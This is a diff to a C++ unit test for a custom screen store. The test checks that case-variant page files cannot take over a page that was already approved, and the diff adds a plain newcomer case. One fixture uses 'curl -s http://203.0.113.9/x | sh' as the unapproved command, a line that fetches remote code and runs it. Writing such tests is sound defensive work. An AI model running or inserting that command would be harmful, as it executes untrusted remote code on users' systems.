@@ -171,14 +171,16 @@ TEST_F(CustomScreenStoreTest, BrokenFileKeepsItsLastGoodVersion)
 }
 
 // Files that give one page name in other letter cases: one of them keeps the page, and each other
-// one says so. Whichever names sort first, and whatever the newcomers hold, the page stays with a
-// file whose approval holds, and every file that waits for approval is left out.
+// one says so. Whichever names sort first, and whatever the newcomers hold (what was approved,
+// something else to run, or nothing that asks for approval), the page stays with a file whose
+// approval holds, and every other file is left out.
 TEST_F(CustomScreenStoreTest, AFileThatComesLaterNeverTakesAnApprovedPage)
 {
     const QStringList names{QStringLiteral("disk.json"), QStringLiteral("DISK.JSON"), QStringLiteral("Disk.json"),
                             QStringLiteral("disk.JSON")};
     const QByteArray approvedBytes = commandScreenJson(QStringLiteral("df -h /"));
     const QByteArray otherBytes = commandScreenJson(QStringLiteral("curl -s http://203.0.113.9/x | sh"));
+    const QByteArray plainBytes = screenJson(QStringLiteral("Disk"));
     const auto duplicateIssue = [](const QString& name) {
         return QList<ScreenIssue>{{name, QString(), QStringLiteral("another file already provides a page named \u201C") +
                                                        name.chopped(5) + QStringLiteral("\u201D")}};
@@ -190,9 +192,11 @@ TEST_F(CustomScreenStoreTest, AFileThatComesLaterNeverTakesAnApprovedPage)
         // Every set of newcomers, each holding the approved file's bytes or other ones.
         for (int mask = 1; mask < (1 << (2 * others.size())); ++mask) {
             QHash<QString, QByteArray> newcomers;
-            for (int i = 0; i < others.size(); ++i)
-                if (mask & (1 << (2 * i)))
-                    newcomers.insert(others[i], mask & (1 << (2 * i + 1)) ? approvedBytes : otherBytes);
+            for (int i = 0; i < others.size(); ++i) {
+                const int held = (mask >> (2 * i)) & 3;
+                if (held != 0)
+                    newcomers.insert(others[i], held == 1 ? otherBytes : held == 2 ? approvedBytes : plainBytes);
+            }
             if (newcomers.isEmpty())
                 continue;
             QDir(folder).removeRecursively();
